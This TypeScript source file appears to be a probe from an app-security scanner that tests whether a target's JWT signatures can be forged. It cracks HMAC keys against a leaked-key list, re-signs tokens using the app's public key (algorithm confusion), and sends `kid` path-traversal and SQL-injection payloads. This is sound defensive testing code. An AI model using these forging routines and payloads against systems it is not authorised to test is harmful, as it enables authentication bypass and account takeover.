import { createHmac, createPublicKey, type JsonWebKey } from "node:crypto";
import { line } from "../client";
import { claimsOf } from "../jwt";
import { carry } from "../session";
import { crackHmac, weakSecrets } from "../weak-keys";
import { is2xx, Findings, type Probe, type ProbeEnv } from "../types";
import { parseJsonOr } from "../../json";

// How a JWT's signature can be had without the key: an HMAC key from a public list of leaked and
// tutorial keys (tried offline against one real token), an RS/ES-signed app that takes HS256
// with its own public key as the secret (algorithm confusion, when its JWKS is reachable), and a
// `kid` the app reads as a file path (/dev/null: an empty key) or into a query.

const b64 = (v: string | Buffer) => Buffer.from(v).toString("base64url");
const header = (token: string) => parseJsonOr(Buffer.from(token.split(".")[0], "base64url").toString("utf8"), {}) as Record<string, unknown>;
const hs256 = (head: object, claims: object, key: string | Buffer) => {
  const data = `${b64(JSON.stringify(head))}.${b64(JSON.stringify(claims))}`;
  return `${data}.${createHmac("sha256", key).update(data).digest("base64url")}`;
};

/** The public keys of a JWKS as the PEM texts a confused verifier would take for an HMAC secret. */
function pemSecrets(jwks: unknown): Array<{ kid?: string; name: string; secret: string }> {
  const keys = (jwks as { keys?: JsonWebKey[] })?.keys;
  if (!Array.isArray(keys)) return [];
  return keys.flatMap((jwk) => {
    try {
      const key = createPublicKey({ key: jwk, format: "jwk" });
      const spki = key.export({ type: "spki", format: "pem" }) as string;
      const out = [
        { kid: jwk.kid as string | undefined, name: "SPKI PEM", secret: spki },
        { kid: jwk.kid as string | undefined, name: "SPKI PEM without its last newline", secret: spki.trimEnd() },
      ];
      if (jwk.kty === "RSA") out.push({ kid: jwk.kid as string | undefined, name: "PKCS#1 PEM", secret: key.export({ type: "pkcs1", format: "pem" }) as string });
      return out;
    } catch {
      return [];
    }
  });
}

async function tryForged(env: ProbeEnv, f: Findings, token: string, what: string, csrfToken?: string): Promise<void> {
  const r = env.plan.protected[0];
  const res = await env.client.json(r.method, r.path, r.body, carry(env.client, token, { csrfToken }));
  f.evidence.push(line(r.method, r.path, res, `(${what})`));
  if (is2xx(res.status)) f.failures.push(`${r.method} ${r.path} accepts a token ${what}`);
}

export const authnWeakSigningKey: Probe = {
  id: "authn.weak-signing-key",
  area: "Authentication",
  runbook: "app-security-finding",
  async run(env) {
    const a = await env.sessions.get("a");
    const claims = claimsOf(a.token);
    if (!claims) return { status: "skip", summary: "not applicable: the session token is opaque, not a JWT", evidence: [] };
    const f = new Findings();
    const alg = String(header(a.token).alg ?? "");
    const notes: string[] = [];
    if (/^HS/.test(alg)) {
      const hit = crackHmac(a.token);
      f.evidence.push(`${alg} token checked offline against ${weakSecrets().length} listed keys: ${hit ? `signed with key #${hit.index} (sha256 ${hit.sha256}…)` : "none signed it"}`);
      if (hit) f.failures.push(`the token's HMAC key is on a public list of leaked keys (wallarm/jwt-secrets line ${hit.index + 1}, sha256 ${hit.sha256}…): rotate it to 32 random bytes`);
    } else {
      const jwks = await env.client.json("GET", env.plan.auth.jwks, undefined);
      const secrets = is2xx(jwks.status) ? pemSecrets(parseJsonOr(jwks.body, undefined)) : [];
      f.evidence.push(line("GET", env.plan.auth.jwks, jwks, `(${secrets.length ? `${secrets.length} public-key forms` : "no usable key"})`));
      if (!secrets.length) notes.push(`algorithm confusion not tested (no JWKS at auth.jwks ${env.plan.auth.jwks})`);
      for (const s of secrets) await tryForged(env, f, hs256({ alg: "HS256", typ: "JWT", ...(s.kid ? { kid: s.kid } : {}) }, claims, s.secret), `re-signed HS256 with the ${alg} public key as the secret, ${s.name}`, a.csrfToken);
    }
    for (const [kid, key, what] of [
      ["../../../../../../../../../../dev/null", "", "kid pointing at /dev/null through ../, empty key"],
      ["/dev/null", "", "kid /dev/null, empty key"],
      ["x' UNION SELECT 'lb-probe'-- ", "lb-probe", "kid injecting a key into a query"],
    ] as const)
      await tryForged(env, f, hs256({ alg: "HS256", typ: "JWT", kid }, claims, key), `with a ${what}`, a.csrfToken);
    return f.verdict(`no signature could be had without the key${notes.length ? `; ${notes.join("; ")}` : ""}`, "tokens can be signed without the app's key");
  },
};
